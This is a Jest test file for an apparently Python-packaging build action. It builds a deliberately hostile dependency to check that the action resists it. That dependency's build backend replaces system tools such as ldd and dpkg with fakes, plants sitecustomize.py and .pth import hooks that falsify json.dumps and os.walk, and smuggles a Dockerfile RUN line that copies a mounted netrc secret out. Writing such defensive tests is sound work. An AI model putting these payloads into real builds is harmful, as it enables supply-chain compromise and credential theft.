import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import { command } from '../support/command.ts'
import { type MachineDaemon, machineDaemon } from '../support/daemon.ts'
import { type Project, projectOf } from '../support/project.ts'
import { type ActionResult, runAction } from '../support/runner.ts'

// A dependency that is built here takes its stage over: it replaces programs and answers, and wants the credentials of the index.

jest.setTimeout(600_000)

const NAMESPACE = 'pt-hostile-test'
const PASSWORD = 'canary-7431-of-the-index'
const STEAL =
  'libc6\nRUN --mount=type=secret,id=netrc,target=/x mkdir -p /srv/out && cp /x /srv/out/stolen_1_all.deb && echo PWNED && cat /x\n#'

/** A build backend, in Python, that makes a wheel of these files after it has done `deed`. */
function backend(name: string, files: string, deed: string, tag = "'py3-none-any'"): string {
  return `
import json, os, pathlib, shutil, sys, sysconfig, time, zipfile
def build_wheel(folder, config_settings=None, metadata_directory=None):
    tag = ${tag}
    info = "${name}-1.0.dist-info/"
    files = ${files}
    files[info + "METADATA"] = "Metadata-Version: 2.1\\nName: ${name}\\nVersion: 1.0\\n" + os.environ.get("REQUIRES", "")
    files[info + "WHEEL"] = "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: " + tag + "\\n"
    files[info + "RECORD"] = "".join(f"{file},,\\n" for file in [*files, info + "RECORD"])
    wheel = f"${name}-1.0-{tag}.whl"
    with zipfile.ZipFile(folder + "/" + wheel, "w") as archive:
        for file, content in files.items():
            archive.writestr(file, content)
${deed.replace(/^/gm, '    ')}
    return wheel
`
}

/** What the dependency does as root in its stage, beside its wheel. */
const DEED = `
steal = ${JSON.stringify(STEAL)}
fake = "#!/bin/sh\\ncase \\"$0\\" in *ldd) echo ' libx.so.1 => /lib/libx.so.1 (0x1)';; *) printf '%s: /lib/libx.so.1\\\\n' " + repr(steal) + ";; esac\\n"
for program in ("ldd", "dpkg", "dpkg-query", "objdump", "readelf", "ldconfig"):
    for place in ("/usr/bin", "/usr/local/bin", "/usr/sbin", "/sbin", "/appenv/bin", "/srv/build-env/bin"):
        if os.path.isdir(place):
            path = pathlib.Path(place, program)
            path.unlink(missing_ok=True)
            path.write_text(fake)
            path.chmod(0o755)
answers = {"evidence.json": json.dumps({"packages": [steal], "missing": []}), "METADATA": "Name: django\\nVersion: 99\\nRequires-Dist: " + steal}
site = pathlib.Path(sysconfig.get_path("purelib", vars={"base": "/appenv"}))
site.mkdir(parents=True, exist_ok=True)
(site / "sitecustomize.py").write_text("import json, subprocess\\njson.dumps = lambda *_, **__: " + repr(answers["evidence.json"]))
for line in ("warning: PWNED", "notice: PWNED", "error: PWNED", "metadata: PWNED", "metadata: ."):
    print("pypackager: " + line, flush=True)
if os.fork() == 0:
    os.setsid()
    for _ in range(400):
        for file, content in answers.items():
            pathlib.Path("/srv/out", file).write_text(content)
        time.sleep(0.01)
    os._exit(0)
time.sleep(1)
`

/** An extension of Python's own, which links OpenSSL: its package is what evidence has to name. */
const EVIL_FILES = `{
    "evil/__init__.py": "",
    "evil/fast.so": pathlib.Path(__import__("_ssl").__file__).read_bytes(),
    "evil.pth": "import evil.lies\\n",
    "evil/lies.py": "import importlib, sys, types, json, os, subprocess\\nreal = importlib.import_module\\ndef anything(name, package=None):\\n    try:\\n        return real(name, package)\\n    except BaseException:\\n        return types.ModuleType(name)\\nimportlib.import_module = anything\\njson.dumps = lambda *_, **__: '{}'\\nos.walk = lambda *_, **__: []\\n",
}`
const PLATFORM = `f"cp{sys.version_info[0]}{sys.version_info[1]}-none-linux_{os.uname().machine}"`

function system(name: string, more = ''): string {
  return `[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "${name}"\nversion = "1.0"\n${more}`
}

let machine: MachineDaemon
let project: Project
let result: ActionResult

beforeAll(async () => {
  machine = await machineDaemon(NAMESPACE)
  project = await projectOf({
    'pyproject.toml': system('victim', 'dependencies = ["evil"]\n[tool.uv.sources]\nevil = { path = "evil" }\n'),
    'backend.py': backend('victim', '{"victim/__init__.py": "raise RuntimeError(\'planted\')\\n"}', 'pass').replace(
      'os.environ.get("REQUIRES", "")',
      '"Requires-Dist: evil\\n"',
    ),
    'victim/__init__.py': "raise RuntimeError('planted')\n",
    'evil/pyproject.toml': system('evil'),
    'evil/backend.py': backend('evil', EVIL_FILES, DEED, PLATFORM),
  })
  result = await runAction({
    workspace: project.workspace,
    inputs: {
      namespace: NAMESPACE,
      version: '1.0',
      checks: 'warn',
      command: 'python -m http.server 8000',
      'index-credentials': `machine 127.0.0.1 login ada password ${PASSWORD}`,
    },
    env: { RUNNER_DEBUG: '1' },
    ...(process.env.HOSTILE_DIST && { dist: process.env.HOSTILE_DIST }),
  })
})

afterAll(async () => {
  for (const disposable of [project, machine]) await disposable?.[Symbol.asyncDispose]()
})

const shown = () => result.log.replace(/^::add-mask::.*$/gm, '')

describe('a dependency that takes its stage over', () => {
  test('is built and installed, and its wheel alone is believed', () => {
    expect(result.errors).toEqual([])
    expect(JSON.parse(result.outputs.wheels ?? '[]')).toMatchObject([{ name: 'evil', version: '1.0' }, { name: 'victim' }])
  })

  test('does not say what its wheel links: the Debian packages are those that own the libraries', async () => {
    const manifest = await command('sh', ['-c', `cat ${project.at('wheelhouse/.build/manifests')}/evil-*.json`])
    expect(JSON.parse(manifest.stdout.toString()).packages).toEqual(['libc6', 'libssl3'])
  })

  test('puts no line into the Dockerfile, and gets no secret', async () => {
    expect(shown()).not.toContain(PASSWORD)
    expect(shown().replaceAll(/pypackager: (warning|notice|error|metadata): PWNED|says: (warning|notice): PWNED/g, '')).not.toContain(
      'PWNED',
    )
    const left = await command('grep', ['-rlF', PASSWORD, project.workspace])
    expect(left.stdout.toString()).toBe('')
    const saved = await command('sh', ['-c', `docker image save ${NAMESPACE}/victim:1.0 | grep -caF ${PASSWORD}`])
    expect(saved.stdout.toString().trim()).toBe('0')
    expect(await machine.docker('image', 'history', '--no-trunc', `${NAMESPACE}/victim:1.0`)).not.toMatch(/PWNED|canary/)
  })

  test('says nothing in our name', () => {
    expect([...result.warnings, ...result.notices].join()).not.toContain('PWNED')
  })

  test('does not answer for the project: a module that raises cannot be imported', () => {
    expect(result.warnings.join()).toMatch(/victim cannot be imported: RuntimeError: planted/i)
    expect(result.log).toContain('The code in evil.pth is not run by the checks')
    expect(result.log).not.toContain('✓ victim can be imported')
  })
})

describe('code that is imported while the image is made', () => {
  test.each([
    { name: 'in the tree that ships', deed: 'put("/srv/app/usr/local/bin/forged")', shown: '/srv/app' },
    { name: 'and hides the time of it', deed: 'put("/srv/app/usr/local/bin/forged"); os.utime("/srv/mark")', shown: '/srv/mark' },
    { name: 'where static files go', deed: 'put("/srv/static/usr/local/bin/forged")', shown: '/srv/static' },
    { name: 'where byte code goes', deed: 'put("/srv/bytecode/appenv/bin/forged")', shown: '/srv/bytecode' },
  ])('puts no file $name', async ({ deed, shown: at }) => {
    const forging = `
import os, pathlib
def put(path):
    pathlib.Path(path).parent.mkdir(parents=True)
    pathlib.Path(path).write_text("forged")
${deed}
def main(): pass
`
    const script = '"forging-1.0.dist-info/entry_points.txt": "[console_scripts]\\nforging = forging:main\\n"'
    await using forged = await projectOf({
      'pyproject.toml': `${system('forging')}[project.scripts]\nforging = "forging:main"\n`,
      'backend.py': backend('forging', `{"forging/__init__.py": ${JSON.stringify(forging)}, ${script}}`, 'pass'),
      'forging/__init__.py': forging,
    })
    const made = await runAction({ workspace: forged.workspace, inputs: { namespace: NAMESPACE, version: '1.0', cache: 'never' } })
    expect(made.errors).toEqual([expect.stringContaining(`code that was imported wrote to ${at}`)])
    expect(made.outputs['release-tag']).toBeUndefined()
  })
})
